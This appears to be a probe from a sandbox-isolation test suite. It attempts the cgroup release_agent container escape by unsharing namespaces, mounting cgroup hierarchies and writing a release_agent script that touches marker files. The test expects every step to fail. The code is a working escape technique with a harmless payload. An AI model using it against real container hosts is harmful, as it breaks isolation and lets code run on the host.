"""Idea: when a control group empties, the kernel of the host starts a program, named by its file.
Must: mount no control groups and name no program; nothing is run on the host.
"""

import ctypes
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
script = f"/tmp/{MARK}-agent"
try:
    with open(script, "x") as file:
        file.write(f"#!/bin/sh\ntouch /tmp/{MARK}-host /var/tmp/{MARK}-host\n")
    os.chmod(script, 0o755)
except OSError:
    pass
if os.fork() == 0:
    libc.unshare(0x10000000 | 0x00020000 | 0x02000000)
    folder = f"/tmp/{MARK}-groups"
    try:
        os.mkdir(folder)
    except OSError:
        pass
    for kind in (b"rdma", b"memory", b"pids", b"cpu", b"misc", b"name=x,none"):
        libc.mount(b"cgroup", folder.encode(), b"cgroup", 0, kind)
    libc.mount(b"cgroup2", folder.encode(), b"cgroup2", 0, None)
    for top in (folder, "/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*")):
        for name, text in (("release_agent", script), ("notify_on_release", "1")):
            try:
                with open(f"{top}/{name}", "w") as file:
                    file.write(text)
                    loot.append(f"{top}/{name} was written")
            except OSError:
                pass
    os._exit(0)
os.wait()
